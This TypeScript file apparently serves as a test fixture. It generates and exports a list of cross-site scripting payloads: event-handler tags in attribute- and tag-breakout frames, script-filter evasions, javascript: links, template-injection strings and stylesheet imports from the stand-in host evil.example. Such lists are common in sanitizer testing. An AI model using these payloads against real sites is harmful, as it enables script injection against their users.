const harm = 'window.__harmed=1';
const tags = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'iframe onload',
  'input autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'marquee onstart',
  'object data=x onerror',
];
const frames = [
  (tag: string) => `<${tag}="${harm}">`,
  (tag: string) => `"><${tag}='${harm}'>`,
  (tag: string) => `'><${tag}=${harm}>`,
  (tag: string) => `</script><${tag}="${harm}">`,
  (tag: string) => `</textarea></title><${tag}="${harm}">`,
];
/** What people who mean harm call themselves. */
export const payloads = [
  ...tags.flatMap((tag) => frames.map((frame) => frame(tag))),
  `<script>${harm}</script>`,
  `</script><script>${harm}</script>`,
  `<scr<script>ipt>${harm}</scr</script>ipt>`,
  `javascript:${harm}`,
  `[click](javascript:${harm})`,
  `{{constructor.constructor('${harm}')()}}`,
  `\${${harm}}`,
  `<a href="javascript:${harm}">win</a>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
];
